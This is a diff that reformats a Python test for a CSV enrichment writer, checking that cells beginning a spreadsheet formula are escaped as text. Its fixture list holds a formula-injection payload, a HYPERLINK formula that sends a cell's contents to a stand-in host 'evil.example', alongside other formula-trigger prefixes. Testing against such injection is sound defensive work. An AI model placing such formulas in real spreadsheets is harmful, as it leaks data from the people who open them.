@@ -12,7 +12,15 @@ from src.adapters.driven.files.spreadsheet_cells import original_cell, safe_cell
 from src.domain.enrichment.ports import EnrichedProduct
 from src.domain.model import FieldOutcome, LookupResult, OutcomeStatus
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "'quoted"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+    "'quoted",
+]
 
 
 def _rows(path: Path) -> list[list[str]]:
@@ -20,7 +28,9 @@ def _rows(path: Path) -> list[list[str]]:
         return list(csv.reader(handle))
 
 
-def test_enrichment_csv_cells_that_start_a_formula_are_text_and_resume_as_they_were(tmp_path: Path) -> None:
+def test_enrichment_csv_cells_that_start_a_formula_are_text_and_resume_as_they_were(
+    tmp_path: Path,
+) -> None:
     out = tmp_path / "enriched.csv"
     codes = ["EF000001", "=EF2"]
     with open_output(out, codes) as output:
@@ -32,7 +42,16 @@ def test_enrichment_csv_cells_that_start_a_formula_are_text_and_resume_as_they_w
             output.write(EnrichedProduct(product_id, LookupResult("mock", outcomes)))
 
     header, *rows = _rows(out)
-    assert header == ["id", "EF000001", "'=EF2", "review", "confidence", "evidence", "status", "llm"]
+    assert header == [
+        "id",
+        "EF000001",
+        "'=EF2",
+        "review",
+        "confidence",
+        "evidence",
+        "status",
+        "llm",
+    ]
     for cells in rows:
         assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
         assert all(not cell.startswith("-") or cell == "-5" for cell in cells), cells
